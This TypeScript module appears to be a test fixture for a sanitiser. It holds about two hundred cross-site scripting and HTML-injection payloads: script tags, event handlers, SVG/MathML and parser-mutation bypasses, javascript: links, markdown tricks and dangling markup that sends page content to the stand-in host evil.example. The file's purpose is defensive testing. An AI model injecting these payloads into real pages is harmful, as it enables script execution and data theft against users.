/**
 * Texts that would run a script, or call another host, in a page that trusts them. A script calls `sentinel()`; the
 * other host is `evil.example`.
 */

const tags = [
  '<script>sentinel()</script>',
  '<SCRIPT>sentinel()</SCRIPT>',
  '<scr<script>ipt>sentinel()</scr</script>ipt>',
  '<script/x>sentinel()</script>',
  '<script\n>sentinel()</script\n>',
  '<script src="//evil.example/a.js"></script>',
  '<script src="data:text/javascript,sentinel()"></script>',
  '<script type="module">sentinel()</script>',
  '<script type="text/javascript" nonce="">sentinel()</script>',
  '<script>/*<!--*/sentinel()/*-->*/</script>',
  '"><script>sentinel()</script>',
  "'><script>sentinel()</script>",
  '</title><script>sentinel()</script>',
  '</textarea><script>sentinel()</script>',
  '</style><script>sentinel()</script>',
  '--><script>sentinel()</script><!--',
  '<template><script>sentinel()</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=sentinel()></template>',
  '<noscript><p title="</noscript><img src=x onerror=sentinel()>">',
  '<object data="javascript:sentinel()"></object>',
  '<object data="data:text/html,<script>parent.sentinel()</script>"></object>',
  '<embed src="javascript:sentinel()">',
  '<embed src="//evil.example/a.swf">',
  '<applet code="sentinel()"></applet>',
  '<portal src="//evil.example/">',
];

const handlers = [
  '<img src=x onerror=sentinel()>',
  '<img src=x ONERROR=sentinel()>',
  '<img src=x onerror="sentinel()">',
  "<img src=x onerror='sentinel()'>",
  '<img src=x onerror=&#115;entinel()>',
  '<img src=x onerror=&#x73;entinel()>',
  '<img src=x onerror=\\u0073entinel()>',
  '<img src=x onerror=window["sentinel"]()>',
  '<img src=x onerror=sentinel`1`>',
  '<img/src=x/onerror=sentinel()>',
  '<img\tsrc=x\tonerror=sentinel()>',
  '<img\fsrc=x\fonerror=sentinel()>',
  '<img src=x onerror\n=\nsentinel()>',
  '<img """><img src=x onerror=sentinel()>',
  '<img src="x` `<img src=x onerror=sentinel()>"` `>',
  '<img srcset=x onerror=sentinel()>',
  '<image src=x onerror=sentinel()>',
  '<picture><source srcset=x><img onerror=sentinel() src=x></picture>',
  '<body onload=sentinel()>',
  '<body onpageshow=sentinel()>',
  '<input autofocus onfocus=sentinel()>',
  '<input type=image src=x onerror=sentinel()>',
  '<select autofocus onfocus=sentinel()>',
  '<textarea autofocus onfocus=sentinel()>',
  '<button autofocus onfocus=sentinel()>x</button>',
  '<p tabindex=0 autofocus onfocus=sentinel()>x</p>',
  '<details open ontoggle=sentinel()>x</details>',
  '<dialog open onclose=sentinel()>x</dialog>',
  '<marquee onstart=sentinel()>x</marquee>',
  '<video><source onerror=sentinel() src=x></video>',
  '<video src=x onerror=sentinel()></video>',
  '<video poster="javascript:sentinel()"></video>',
  '<audio src=x onerror=sentinel()></audio>',
  '<track default onerror=sentinel()>',
  '<p onmouseover=sentinel()>hover</p>',
  '<p onclick=sentinel()>click</p>',
  '<p onpointerenter=sentinel()>x</p>',
  '<p onwheel=sentinel() ondrag=sentinel()>x</p>',
  '<p contenteditable onbeforeinput=sentinel()>x</p>',
  '<p style="animation:spin 1s" onanimationstart=sentinel()>x</p>',
  '<style>@keyframes k{}</style><p style="animation-name:k" onanimationend=sentinel()>x</p>',
  '<p style="transition:all 1s" ontransitionrun=sentinel()>x</p>',
  '<a onbeforetoggle=sentinel() popovertarget=p>x</a><p popover id=p onbeforetoggle=sentinel()>x</p>',
  '<p hidden=until-found onbeforematch=sentinel()>x</p>',
  '<x oncontentvisibilityautostatechange=sentinel() style="display:block;content-visibility:auto">x</x>',
  '<xss id=x onfocus=sentinel() tabindex=1>x</xss>',
  '<iframe onload=sentinel()></iframe>',
  '<frameset onload=sentinel()>',
  '<form oninput=sentinel()><input></form>',
  '<isindex type=image src=x onerror=sentinel()>',
];

const svgAndMath = [
  '<svg onload=sentinel()>',
  '<svg/onload=sentinel()>',
  '<svg><script>sentinel()</script></svg>',
  '<svg><script>&#115;entinel()</script></svg>',
  '<svg><script href="data:text/javascript,sentinel()"/></svg>',
  '<svg><script xlink:href="data:text/javascript,sentinel()"/></svg>',
  '<svg><a xlink:href="javascript:sentinel()"><text x=0 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:sentinel()"/><text x=0 y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=sentinel() /></svg>',
  '<svg><animate onbegin=sentinel() attributeName=x dur=1s></svg>',
  '<svg><animatetransform onbegin=sentinel() attributeName=transform dur=1s></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.sentinel()</script>"></iframe></foreignObject></svg>',
  '<svg><foreignObject><img src=x onerror=sentinel()></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=1 onerror=sentinel() /></svg>#x"/></svg>',
  '<svg><use href="//evil.example/a.svg#x"/></svg>',
  '<svg><image href="//evil.example/a.png"/></svg>',
  '<svg><feImage href="//evil.example/a.png"/></svg>',
  '<svg><style>@import "//evil.example/a.css"</style></svg>',
  '<svg><style><img src=x onerror=sentinel()></style></svg>',
  '<svg><title><img src=x onerror=sentinel()></title></svg>',
  '<svg><desc><img src=x onerror=sentinel()></desc></svg>',
  '<math><a xlink:href="javascript:sentinel()">x</a></math>',
  '<math href="javascript:sentinel()">x</math>',
  '<math><maction actiontype="statusline#//evil.example" xlink:href="javascript:sentinel()">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=sentinel()></annotation-xml></math>',
];

/** Markup that a sanitiser and the page parse differently. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=sentinel()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=sentinel()>',
  '<svg></p><style><a id="</style><img src=x onerror=sentinel()>">',
  '<svg><style><a title="</style><img src=x onerror=sentinel()>">',
  '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=sentinel() src=x>"></textarea></table>',
  '<noembed><img title="</noembed><img src=x onerror=sentinel()>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=sentinel()>"></noframes>',
  '<xmp><p title="</xmp><img src=x onerror=sentinel()>"></xmp>',
  '<plaintext-x><p title="</plaintext><img src=x onerror=sentinel()>"></plaintext-x>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=sentinel()>">',
  '<table><tr><td><svg><desc><table><img src=x onerror=sentinel()></table></desc></svg></table>',
  '<a id=x tabindex=1 onfocus=sentinel()><b><svg><b></a>x</b></svg>',
  '<svg><![CDATA[><img src=x onerror=sentinel()>]]></svg>',
  '<!--><img src=x onerror=sentinel()>-->',
  '<!-- --!><img src=x onerror=sentinel()> -->',
  '<?xml-stylesheet ><img src=x onerror=sentinel()>?>',
  '<![if gte IE 4]><img src=x onerror=sentinel()><![endif]>',
  '<a href="x"title="</a><img src=x onerror=sentinel()>">x</a>',
  '<img alt="`><img src=x onerror=sentinel()>`">',
  '<form id=f><input name=attributes><input name=innerHTML></form><img src=x onerror=sentinel()>',
  '<a id=defaultView><a id=defaultView name=sentinel href="javascript:sentinel()">x</a>',
  '<p is="x-a" onclick=sentinel()>x</p>',
];

const links = [
  'javascript:sentinel()',
  'JaVaScRiPt:sentinel()',
  ' javascript:sentinel()',
  '\u0001javascript:sentinel()',
  'java\tscript:sentinel()',
  'java\nscript:sentinel()',
  'javascript\t:sentinel()',
  '&#106;avascript:sentinel()',
  '&#x6A;avascript:sentinel()',
  '&#0000106avascript:sentinel()',
  'java&Tab;script:sentinel()',
  'java&NewLine;script:sentinel()',
  'javascript&colon;sentinel()',
  'javascript&#58;sentinel()',
  'javascript://%0asentinel()',
  'javascript:%73entinel()',
  'data:text/html,<script>opener.sentinel()</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuc2VudGluZWwoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="sentinel()"/>',
  'vbscript:sentinel()',
  'livescript:sentinel()',
  'blob:null/sentinel()',
  'feed:javascript:sentinel()',
  'view-source:javascript:sentinel()',
];

const framesAndForms = [
  '<iframe src="javascript:parent.sentinel()"></iframe>',
  '<iframe srcdoc="<script>parent.sentinel()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.sentinel()&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.sentinel()</script>"></iframe>',
  '<iframe src="http://evil.example/frame"></iframe>',
  '<form action="javascript:sentinel()"><input type=submit></form>',
  '<form action="http://evil.example/form" method=post><input name=a value=b></form>',
  '<form><button formaction="javascript:sentinel()">x</button></form>',
  '<form id=g></form><button form=g formaction="http://evil.example/form">x</button>',
  '<isindex action="javascript:sentinel()" type=submit>',
  '<base href="http://evil.example/"><img src="base.png">',
  '<base href="javascript:/a/-sentinel()//"><a href="#">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:sentinel()">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta http-equiv="Set-Cookie" content="switchyard_session=x">',
];

const styles = [
  '<style>*{background:url("javascript:sentinel()")}</style>',
  '<style>@import "http://evil.example/a.css";</style>',
  '<style>body{background:url(http://evil.example/a.png)}</style>',
  '<link rel=stylesheet href="http://evil.example/a.css">',
  '<link rel=stylesheet href="javascript:sentinel()">',
  '<link rel=modulepreload href="http://evil.example/a.js">',
  '<link rel=manifest href="http://evil.example/a.json">',
  '<p style="background:url(http://evil.example/a.png)">x</p>',
  '<p style="width:expression(sentinel())">x</p>',
  '<p style="-moz-binding:url(//evil.example/a.xml#x)">x</p>',
  '<p style="behavior:url(http://evil.example/a.htc)">x</p>',
  '<table background="http://evil.example/a.png"><tr><td>x</table>',
];

/** Markup that is left open, so that it affects the content after it. */
const dangling = [
  "<img src='http://evil.example/?",
  '<img src="http://evil.example/?',
  "<a href='http://evil.example/?",
  '<form action=http://evil.example/><textarea name=a>',
  '<button formaction=http://evil.example/ form=g>',
  '<meta name=x content="',
  "<style>@import'http://evil.example/?",
  '<video poster="http://evil.example/a.png" src="http://evil.example/a.mp4">',
  '<audio src="http://evil.example/a.mp3" autoplay>',
  '<img src="http://evil.example/a.png" srcset="http://evil.example/b.png 2x">',
];

const markdown = [
  '[x](javascript:sentinel())',
  '[x](JaVaScRiPt:sentinel())',
  '[x](javascript&#58;sentinel())',
  '[x](<javascript:sentinel()>)',
  '[x](java\\\nscript:sentinel())',
  '[x](data:text/html,<script>sentinel()</script>)',
  '[x](vbscript:sentinel())',
  '![x](javascript:sentinel())',
  '![x](http://evil.example/a.png)',
  '![x" onerror="sentinel()](x)',
  '![x](x "\\" onerror=\\"sentinel()")',
  '[x](x "\\"onmouseover=\\"sentinel()")',
  '[x][r]\n\n[r]: javascript:sentinel()',
  '[x][s]\n\n[s]: x "\\"onclick=\\"sentinel()"',
  '<javascript:sentinel()>',
  '<javascript&colon;sentinel()>',
  '`<img src=x onerror=sentinel()>`',
  '```html\n<script>sentinel()</script>\n```',
  '```"><img/src/onerror=sentinel()>\nx\n```',
  '    <script>sentinel()</script>',
  '**<img src=x onerror=sentinel()>**',
  '> <script>sentinel()</script>',
  '- <svg onload=sentinel()>',
  '| <img src=x onerror=sentinel()> |\n|---|\n| <svg onload=sentinel()> |',
  '[<img src=x onerror=sentinel()>](x)',
  '[![x](x)](javascript:sentinel())',
  '# <img src=x onerror=sentinel()>',
  '\\<img src=x onerror=sentinel()\\>',
  '&lt;img src=x onerror=sentinel()&gt;',
];

const unicode = [
  '＜script＞sentinel()＜/script＞',
  '<\u0000script>sentinel()</script>',
  '<ſcript>sentinel()</ſcript>',
  '<img src=x on\u200berror=sentinel()>',
  '\u202e<img src=x onerror=sentinel()>',
  '<img\u2028src=x\u2029onerror=sentinel()>',
  '<ımg src=x onerror=sentinel()>',
  '\ufeff<svg onload=sentinel()>',
  '+ADw-script+AD4-sentinel()+ADw-/script+AD4-',
  '\u001b(J<script>sentinel()</script>',
  '{{constructor.constructor("sentinel()")()}}',
  '${sentinel()}<%= sentinel() %>',
];

/** Addresses that the console must not follow. */
export const scriptLinks: readonly string[] = links;

/**
 * Markup that only the sanitiser stops, and no policy of a page: it leaves the page, connects in advance, or loads
 * images and frames over TLS, which operators may show.
 */
export const sanitizerOnlyPayloads: readonly string[] = [
  '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
  '<link rel=preconnect href="https://evil.example">',
  '<link rel=dns-prefetch href="https://evil.example">',
  '<iframe src="https://evil.example/frame"></iframe>',
];

/** Markup that pages of operators may show, and responses of models may not. */
export const remoteImages: readonly string[] = [
  '![x](https://evil.example/a.png)',
  '<img src="https://evil.example/a.png">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"><img src="https://evil.example/a.png"></picture>',
  '<video poster="https://evil.example/a.png"></video>',
  '<svg><image href="https://evil.example/a.png"/></svg>',
  '<table background="https://evil.example/a.png"><tr><td>x</table>',
];

const anchors = links.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">x</a>`);

export const payloadKinds = {
  tags,
  handlers,
  svgAndMath,
  mutations,
  anchors,
  framesAndForms,
  styles,
  markdown,
  unicode,
  dangling,
};

export const payloads: readonly string[] = Object.values(payloadKinds).flat();

/** Closes what a payload left open, so that the next one is parsed by itself. */
const END =
  '\n\n"\'>--></script></style></title></textarea></xmp></noembed></noframes></noscript></select></template></svg></math></table></form></iframe></object>\n\n';

/** Combines many payloads in one text, each behind a number in bold. */
export function buildPage(texts: readonly string[]): string {
  return texts.map((text, index) => `**p${index}**\n\n${text}${END}`).join('');
}

/** Distributes the payloads over the given number of names. */
export function distributeIntoNames(count: number): string[] {
  const names = Array.from({ length: count }, () => '');
  for (const [index, text] of payloads.entries()) names[index % count] += text;
  return names;
}
